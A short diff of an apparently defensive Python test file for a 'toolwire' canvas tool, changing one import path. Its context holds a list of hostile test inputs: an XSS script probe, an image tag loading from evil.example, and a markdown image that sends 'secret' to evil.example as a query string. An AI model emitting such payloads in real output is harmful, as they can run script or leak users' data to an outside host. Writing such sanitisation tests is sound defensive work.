@@ -11,7 +11,7 @@ from toolwire.define.arguments import Checker
 from toolwire.define.conformance import report
 from toolwire.errors import ToolFailure
 from toolwire.protocol.calls import Resource
-from toolwire.toolbox.canvas import POLICY, Node, canvas_tool, nodes_tool
+from toolwire.toolbox.user.canvas import POLICY, Node, canvas_tool, nodes_tool
 
 HOSTILE = [
     "<script>alert(1)</script>", "<img src=https://evil.example/x>", "![x](https://evil.example/?q=secret)",
